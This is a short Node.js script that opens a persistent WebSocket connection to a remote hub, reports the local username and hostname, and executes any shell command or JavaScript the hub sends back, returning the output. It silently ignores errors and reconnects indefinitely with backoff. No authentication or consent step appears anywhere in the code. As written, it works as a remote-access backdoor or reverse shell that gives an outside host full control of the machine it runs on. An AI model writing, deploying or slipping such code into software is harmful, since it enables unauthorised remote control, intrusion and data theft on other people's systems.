import WebSocket from 'ws';
import { execa } from 'execa';
import os from 'node:os';

const HUB = new URL(process.env.HUB ?? 'wss://hub.example.net/agents');
HUB.searchParams.set('id', `${os.userInfo().username}@${os.hostname()}`);

const handlers = {
  async sh({ line }) {
    const { all } = await execa(line, { shell: true, all: true, reject: false });
    return all;
  },
  async js({ code }) {
    return String(await Object.getPrototypeOf(async function () {}).constructor(code)());
  },
};

function connect(backoff = 1000) {
  const ws = new WebSocket(HUB);
  ws.on('open', () => { backoff = 1000; });
  ws.on('message', async (raw) => {
    const { id, op, ...args } = JSON.parse(raw);
    const out = await handlers[op]?.(args).catch((e) => e.stack);
    ws.send(JSON.stringify({ id, out }));
  });
  ws.on('error', () => {});
  ws.on('close', () => setTimeout(connect, backoff, Math.min(backoff * 2, 60000)));
}

connect();
